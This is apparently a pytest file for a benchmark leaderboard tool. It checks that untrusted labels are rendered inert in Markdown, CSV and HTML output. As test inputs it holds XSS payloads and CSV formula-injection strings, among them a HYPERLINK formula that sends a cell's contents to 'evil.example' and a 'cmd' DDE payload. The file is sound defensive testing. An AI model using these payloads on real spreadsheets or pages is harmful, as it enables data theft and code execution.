"""Issue 16, item 14: text from configs, manifests and run folders is inert in every Markdown and
CSV file we write: no raw HTML or links in ``.md``, no spreadsheet formulas in ``.csv``."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from fake_runs import write_fake_run

from xaibench.leaderboard import build_leaderboards, to_markdown, write_leaderboard_files
from xaibench.report.run_files import load_run

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    "text",
    [
        SCRIPT,
        "<img src=x onerror=alert(1)>",
        "</td><td>",
        "<!-- c -->",
        "[click](javascript:alert(1))",
        "![x](http://evil.example/p.png)",
        "a|b",
        "line\nbreak",
        "&lt;script&gt;",
        "`code` **bold** _em_ ~~s~~",
    ],
)
def test_markdown_text_cannot_make_markup(text: str):
    from xaibench.escape import markdown_text

    out = markdown_text(text)
    assert "\n" not in out
    assert "<" not in out.replace("&lt;", "")  # no tag can open
    assert "](" not in out.replace("\\](", "")  # no link can close
    assert "|" not in out.replace("\\|", "")  # no cell can split
    # rendering it with a CommonMark renderer gives back the text, as text
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").enable("table").render(out)
    assert "<script" not in rendered
    assert "<img" not in rendered
    assert "<a " not in rendered
    assert "<td" not in rendered
    assert "<!--" not in rendered


def test_markdown_text_keeps_our_own_cells_as_they_are():
    from xaibench.escape import markdown_text

    for cell in ("0.420 [0.400, 0.440]", "<0.001", "\u2013", "Δ_bone (mean)", "test_resnet.random"):
        assert markdown_text(cell) == cell


def test_markdown_code_cannot_be_closed_from_inside():
    from xaibench.escape import markdown_code

    assert markdown_code("run`s") == "``run`s``"
    assert markdown_code("`x`") == "`` `x` ``"
    assert markdown_code("a\nb") == "`a b`"


@pytest.mark.parametrize(
    "value", [FORMULA, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "'=1", "'"]
)
def test_csv_text_neutralises_formulas_and_round_trips(value: str):
    from xaibench.escape import csv_text, csv_text_back

    safe = csv_text(value)
    assert safe.startswith("'")
    assert csv_text_back(safe) == value


@pytest.mark.parametrize("value", ["-2.5", "1e3", "plain", "row00001", "", "Δ_bone"])
def test_csv_text_leaves_numbers_and_plain_text(value: str):
    from xaibench.escape import csv_text

    assert csv_text(value) == value


def test_csv_frame_round_trips_through_a_csv_file():
    from xaibench.escape import csv_frame, csv_frame_back

    frame = pd.DataFrame({"site": [FORMULA, "a", "'b", "-3"], "value": [1.0, -2.0, 3.0, 4.0]})
    text = csv_frame(frame).to_csv(index=False)
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert all(not c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    back = csv_frame_back(pd.read_csv(io.StringIO(text), dtype={"site": str}))
    pd.testing.assert_frame_equal(back, frame)


def _board(tmp_path: Path, names: dict[str, float]) -> Path:
    runs = tmp_path / "runs"
    run = write_fake_run(runs / "a", names)
    board = tmp_path / "board"
    write_leaderboard_files(build_leaderboards([load_run(run)], resamples=50, seed=0), board)
    return board


def test_hostile_labels_are_inert_in_every_leaderboard_file(tmp_path: Path):
    board = _board(tmp_path, {SCRIPT: 2.0, FORMULA: 1.0})
    for name in ("leaderboard_performance.md", "leaderboard_explainability.md"):
        text = (board / name).read_text()
        assert "<script" not in text, name
        assert "&lt;script>" in text  # shown, not run
    for name in ("leaderboard_performance.csv", "leaderboard_explainability.csv"):
        rows = list(csv.reader(io.StringIO((board / name).read_text())))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
        assert any(cell == "'" + FORMULA for row in rows for cell in row), name
    html = (board / "leaderboard.html").read_text()
    assert "<script>alert" not in html


def test_predictions_with_hostile_labels_read_back_unchanged(tmp_path: Path):
    """Our own readers undo the neutralisation: tables mean the same after the round trip."""
    from xaibench.engine.results import write_run

    run = write_fake_run(tmp_path / "a", {FORMULA: 1.0})
    loaded = load_run(run)
    document = json.loads((run / "results.json").read_text())
    document["analysis"] = {"strata_site": [{"variable": "site", "stratum": FORMULA, "n": 3}]}

    class Result:
        predictions = [loaded.predictions]
        explanations = [loaded.explanations]

    out = tmp_path / "b"
    write_run(out, document, [Result()])  # type: ignore[list-item]
    strata = (out / "strata_site.csv").read_text()
    assert "'" + FORMULA.replace('"', '""') in strata
    assert "\n=" not in strata
    assert ",=" not in strata
    raw = (out / "predictions.csv").read_text()
    assert ",=" not in raw
    again = load_run(out)
    assert set(again.predictions["backbone"]) == {FORMULA}
    assert set(again.explanations["backbone"]) == {FORMULA}


def test_to_markdown_escapes_headers_too():
    frame = pd.DataFrame({SCRIPT: ["x"]})
    assert "<script" not in to_markdown(frame)
